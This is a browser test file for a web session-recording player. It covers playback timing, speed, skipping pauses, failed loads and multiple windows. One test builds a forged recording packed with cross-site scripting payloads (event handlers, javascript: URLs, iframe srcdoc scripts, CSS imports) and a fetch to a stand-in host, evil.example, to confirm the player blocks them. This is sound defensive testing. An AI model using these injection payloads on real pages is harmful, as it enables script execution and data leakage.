import { expect, it } from 'vitest'
import { hasBrowser, openBrowser } from '../../support/browser.ts'
import {
  addsTo,
  BEGIN,
  click,
  element,
  idOfLast,
  type Node,
  pack,
  play,
  share,
  shareWindows,
  text,
  visit
} from '../../support/player.ts'
import { until } from '../../support/until.ts'

/** Returns forged changes to a page, its style sheets, fonts and a canvas that try to run `code` or to load from `evil`. */
function forgedChanges(evil: string, code: string): Node[] {
  // `visit`, which has been called before, gives `html` the highest id and `body` the one below.
  const [html, body] = [idOfLast(), idOfLast() - 1]
  const rule = `@import '${evil}/rule.css'`
  // `source` is rrweb's number for a kind of change.
  const changes: Node[] = [
    {
      source: 0,
      texts: [],
      removes: [],
      adds: addsTo(
        body,
        element('script', { src: `${evil}/script.js` }),
        element('img', { src: `${evil}/added`, onerror: code }),
        element('link', { rel: 'preload', as: 'script', href: `${evil}/preload` }),
        element('iframe', { srcdoc: `<script>${code}</script>` })
      ),
      attributes: [{ id: body, attributes: { onclick: code, style: `background: url(${evil}/b)` } }]
    },
    // `html` has no style sheet to change; 999,999 is the document, which can adopt style sheets.
    { source: 8, id: html, adds: [{ rule, index: 0 }] },
    { source: 13, id: html, index: [0], set: { property: 'color', value: 'red' } },
    { source: 15, id: 999_999, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule }] }] },
    { source: 9, id: body, type: 0, commands: [{ property: 'drawImage', args: [code] }] },
    { source: 10, family: 'Evil', fontSource: `url(${evil}/font)`, buffer: false },
    // A mouse move without positions, and an unknown kind of change.
    { source: 1 },
    { source: 77 }
  ]
  return changes.map((data) => ({ type: 3, timestamp: BEGIN + 100, data }))
}

it.skipIf(!hasBrowser())('a shared recording is played on a phone', async () => {
  const address = await share(visit([], [element('h1', {}, text('Seven cakes'))]))

  const { tab, recorded, errors } = await play(`${address}#t=3`)

  await recorded.getByText('Seven cakes').waitFor()
  expect(await tab.locator('#clock').textContent()).toMatch(/^0:0[3-8] \/ 0:08$/)
  expect(await tab.locator('#moments li').allTextContents()).toEqual([
    '0:00 /',
    '0:02 Click',
    '0:08 Paid'
  ])
  expect(await tab.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375)
  expect(errors).toEqual([])
})

it.skipIf(!hasBrowser())(
  'a forged recording never runs a script, and contacts other hosts only after the viewer agrees',
  async () => {
    const evil = 'https://evil.example'
    const code = `fetch('${evil}/ran'); top.ran = true`
    const address = await share([
      ...visit(
        [
          element('script', {}, text(code)),
          element('script', { src: `${evil}/script.js` }),
          element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
          element('base', { href: evil }),
          ...[
            'preload',
            'prefetch',
            'preconnect',
            'dns-prefetch',
            'modulepreload',
            'stylesheet',
            'preconnect stylesheet'
          ].map((rel) => element('link', { rel, as: 'script', href: `${evil}/${rel}` })),
          element('style', {
            _cssText: `@import '${evil}/import.css'; body { background: url(${evil}/background) }`
          })
        ],
        [
          element('h1', {}, text('Forged')),
          element('img', { src: `${evil}/image`, onerror: code, onload: code }),
          element('img', { src: 'data:,', onerror: code }),
          element('img', { rr_dataURL: `${evil}/dataurl` }),
          element('canvas', { rr_dataURL: `${evil}/canvas` }),
          element('a', { href: `javascript:${code}` }, text('link')),
          element('iframe', { srcdoc: `<script>${code}</script>` }),
          element('iframe', { src: `javascript:${code}` }),
          element('iframe', { src: `${evil}/iframe` }),
          element('object', { data: `${evil}/object` }),
          element('embed', { src: `${evil}/embed` }),
          element('video', { src: `${evil}/video`, autoplay: '' }),
          element('input', { autofocus: '', onfocus: code }),
          element('details', { open: '', ontoggle: code }),
          element('form', { action: `${evil}/form` }, element('button', {}, text('send'))),
          { ...element('svg', { onload: code }, element('script', {}, text(code))), isSVG: true },
          { ...element('x-evil', { onclick: code }), isCustom: true }
        ]
      ),
      ...forgedChanges(evil, code)
    ])

    const { tab, recorded, outside, errors } = await play(address)
    await recorded.getByText('Forged').waitFor()
    // The image that the forged changes add shows that they are applied.
    await recorded.locator(`img[src="${evil}/added"]`).waitFor({ state: 'attached' })
    await tab.waitForTimeout(500)

    expect(await tab.evaluate('window.ran')).toBe(undefined)
    expect(outside).toEqual([])

    await tab.click('#load')
    await until(() => outside.includes(`${evil}/image`) && outside.includes(`${evil}/added`))
    await tab.waitForTimeout(500)
    expect(await tab.evaluate('window.ran')).toBe(undefined)
    expect(
      outside.filter((url) => /ran|script|refresh|iframe|object|embed|form|load/.test(url))
    ).toEqual([])
    await recorded.getByText('Forged').waitFor()
    expect(errors.filter((error) => error.startsWith('TypeError'))).toEqual([])
  }
)

/** The second part of a visit that ends at 10:36: a console line, a pause of ten minutes, then clicks. */
const SECOND_PART: Node[] = [
  {
    type: 6,
    timestamp: BEGIN + 1_000,
    data: {
      plugin: 'rrweb/console@1',
      payload: { level: 'warn', trace: [], payload: ['"low stock"'] }
    }
  },
  click(600_000),
  ...Array.from({ length: 12 }, (_, i) => click(603_000 + i * 3_000))
]

it.skipIf(!hasBrowser())(
  'a shared recording is played quickly, without its pauses, and from any moment',
  async () => {
    const page = visit([], [element('h1', {}, text('Seven cakes'))])
    // Adds a heading to `body`, then a text to the heading.
    const added = addsTo(idOfLast() - 1, element('h2'))
    added.push(...addsTo(idOfLast(), text('Sold out')))
    const packed = {
      type: 3,
      timestamp: BEGIN + 601_000,
      cv: '2024-10',
      data: {
        source: 0,
        texts: pack([]),
        attributes: pack([]),
        removes: pack([]),
        adds: pack(added)
      }
    }
    const address = await share(page, [...SECOND_PART, packed])

    const { tab, recorded, errors, untilEnd } = await play(address, 1280)
    await recorded.getByText('Seven cakes').waitFor()
    const clock = async () => {
      const [, minutes, seconds] =
        /^(\d+):(\d+)/.exec((await tab.textContent('#clock')) ?? '') ?? []
      return Number(minutes) * 60 + Number(seconds)
    }

    await until(() => tab.locator('#moments li').nth(4).isVisible())
    expect((await tab.locator('#moments li').allTextContents()).slice(0, 5)).toEqual([
      '0:00 /',
      '0:01 warn: "low stock"',
      '0:02 Click',
      '0:08 Paid',
      '10:00 Click'
    ])
    const [list, stage] = [
      await tab.locator('#moments').boundingBox(),
      await tab.locator('#stage').boundingBox()
    ]
    expect(list?.x).toBeGreaterThan((stage?.x ?? 0) + (stage?.width ?? 0))

    // The ten minutes without activity are played at up to 360 times the normal speed.
    await tab.check('#skip')
    await until(async () => (await clock()) >= 600)
    await recorded.getByText('Sold out').waitFor()

    await tab.selectOption('#speed', '8')
    await untilEnd()
    expect(await tab.textContent('#clock')).toBe('10:36 / 10:36')

    await tab.click('text=0:02 Click')
    await until(async () => (await clock()) === 2)
    await recorded.getByText('Seven cakes').waitFor()
    expect(await recorded.getByText('Sold out').count()).toBe(0)
    expect(errors).toEqual([])
  }
)

it.skipIf(!hasBrowser())('a recording is played without a part that cannot be loaded', async () => {
  const address = await share(visit([], [element('h1', {}, text('Seven cakes'))]), SECOND_PART)
  const tab = await (await openBrowser()).newPage()
  let requests = 0
  await tab.route(/blob_key=/, (route) => {
    requests += 1
    return requests === 1 ? route.continue() : route.fulfill({ status: 500, body: '' })
  })

  await tab.goto(address)

  await until(
    async () =>
      (await tab.textContent('#status'))?.includes('A part of this recording cannot be loaded.') ??
      false
  )
  await tab.frameLocator('#stage iframe').frameLocator('iframe').getByText('Seven cakes').waitFor()
})

it.skipIf(!hasBrowser())('the windows of a recording are played one at a time', async () => {
  const later = visit([], [element('h1', {}, text('Eight pies'))]).map((snapshot) => ({
    ...snapshot,
    timestamp: Number(snapshot.timestamp) + 5_000
  }))
  const parts = [visit([], [element('h1', {}, text('Seven cakes'))]), later]
  const { tab, recorded } = await play(await shareWindows(parts, ['one', 'two']))
  await recorded.getByText('Seven cakes').waitFor()
  await tab.locator('#window').waitFor()

  expect(await tab.locator('#window option').allTextContents()).toEqual([
    '1, from 0:00',
    '2, from 0:05'
  ])
  await tab.selectOption('#window', '1')

  await recorded.getByText('Eight pies').waitFor()
  expect(await recorded.getByText('Seven cakes').count()).toBe(0)
  expect(await tab.textContent('#clock')).toMatch(/\/ 0:08$/)
})
